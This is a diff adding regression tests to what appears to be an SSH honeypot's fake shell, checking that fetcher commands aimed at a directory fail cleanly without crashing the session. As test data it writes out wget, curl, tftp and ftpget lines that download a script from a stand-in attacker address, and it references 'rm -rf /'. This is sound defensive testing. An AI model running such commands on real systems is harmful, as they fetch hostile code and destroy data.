@@ -1,9 +1,11 @@
 """Regression tests for hostile lines that used to raise out of the shell.
 
 Redirecting output onto a directory raised ``IsADirectoryError`` from
-``FakeFilesystem.write``, and ``rm -rf /`` raised ``KeyError: '/'`` from
-``FakeFilesystem.remove``.  Both must now answer with error text, leave
-the filesystem as it was, and keep the session alive.
+``FakeFilesystem.write``, ``rm -rf /`` raised ``KeyError: '/'`` from
+``FakeFilesystem.remove``, and a fetcher saving onto a directory raised
+``IsADirectoryError`` from ``ShellContext.record_download``.  All must now
+answer with error text, leave the filesystem as it was, and keep the
+session alive.
 """
 
 import pytest
@@ -25,6 +27,24 @@ RM_ROOT_TEXT = (
     "rm: it is dangerous to operate recursively on '/'\n"
     "rm: use --no-preserve-root to override this failsafe"
 )
+
+#: Fetcher lines whose output path is a directory, with the tool's answer
+#: (the last command's output).
+FETCH_ONTO_DIR = {
+    "wget -O /tmp http://198.51.100.7/x.sh":
+        "wget: can't open '/tmp': Is a directory",
+    "busybox wget -O /var http://198.51.100.7/x.sh":
+        "wget: can't open '/var': Is a directory",
+    "curl -o /tmp http://198.51.100.7/x.sh":
+        "Warning: Failed to create the file /tmp: Is a directory\n"
+        "curl: (23) Failure writing output to destination",
+    "tftp -l /tmp -r x -g 198.51.100.7":
+        "tftp: can't open '/tmp': Is a directory",
+    "cd /; wget http://198.51.100.7/tmp":
+        "wget: can't open '/tmp': Is a directory",
+    "ftpget 198.51.100.7 /var x":
+        "ftpget: can't open '/var': Is a directory",
+}
 
 
 def _snapshot(fs):
@@ -82,8 +102,27 @@ class TestRmRoot:
         assert shell.context.fs.is_dir("/tmp")
 
 
+class TestFetchOntoDirectory:
+    @pytest.mark.parametrize("line", sorted(FETCH_ONTO_DIR))
+    def test_tool_error_text_and_no_write(self, shell, line):
+        before = _snapshot(shell.context.fs)
+        result = shell.execute(line)
+        assert result.commands[-1].output == FETCH_ONTO_DIR[line]
+        assert result.file_changes == []
+        assert _snapshot(shell.context.fs) == before
+        assert [d.sha256 for d in shell.context.downloads] == [None]
+        assert not shell.context.downloads[0].success
+
+    def test_file_target_still_saves(self, shell):
+        result = shell.execute("wget -O /tmp/x http://198.51.100.7/x.sh")
+        assert result.file_changes[0].path == "/tmp/x"
+        assert shell.context.downloads[0].sha256 is not None
+
+
 class TestLiveSession:
-    @pytest.mark.parametrize("line", REDIRECT_LINES + RM_ROOT_LINES)
+    @pytest.mark.parametrize(
+        "line", REDIRECT_LINES + RM_ROOT_LINES + sorted(FETCH_ONTO_DIR)
+    )
     def test_session_survives(self, line):
         hp = Honeypot(HoneypotConfig("hp-crash", 1, "US", 1))
         session = hp.accept(2, 40000, SSH_PORT, now=0.0)
